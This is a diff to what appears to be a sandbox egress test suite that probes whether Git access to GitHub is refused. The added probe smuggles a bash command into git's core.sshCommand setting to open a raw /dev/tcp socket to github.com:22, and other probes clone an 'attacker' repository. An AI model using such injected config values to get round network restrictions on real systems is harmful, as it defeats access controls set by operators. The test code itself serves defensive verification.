@@ -3,7 +3,7 @@
  * credential in the URL.
  */
 import { infoRefs, ownToken, repository } from '../attacks/attack.ts';
-import { curl, type Place, type Probe } from '../probe.ts';
+import { curl, script, type Place, type Probe } from '../probe.ts';
 
 export function githubPrograms(place: Place): readonly Probe[] {
   const refused = ['refused with 403'] as const;
@@ -48,16 +48,12 @@ export function githubPrograms(place: Place): readonly Probe[] {
       `https://github.com/attacker/${place.marker}.git`,
       '/tmp/submodule',
     ]),
-    git(
+    script(
       'ssh',
-      'git over SSH',
-      [
-        '-c',
-        'core.sshCommand=ssh -o BatchMode=yes -o ConnectTimeout=3',
-        'ls-remote',
-        'ssh://git@github.com/acme/split-bill.git',
-      ],
-      ['exit 128: and the repository exists.', 'exit 128: fatal: unable to fork'],
+      'git over SSH, whose port Bash opens',
+      'bash',
+      `git -c core.sshCommand="bash -c 'exec 3<>/dev/tcp/github.com/22' #" ls-remote ssh://git@github.com${repository} 2>&1 | grep -oE 'Connection refused|Network is unreachable'`,
+      ['Connection refused'],
     ),
     git(
       'git-protocol',
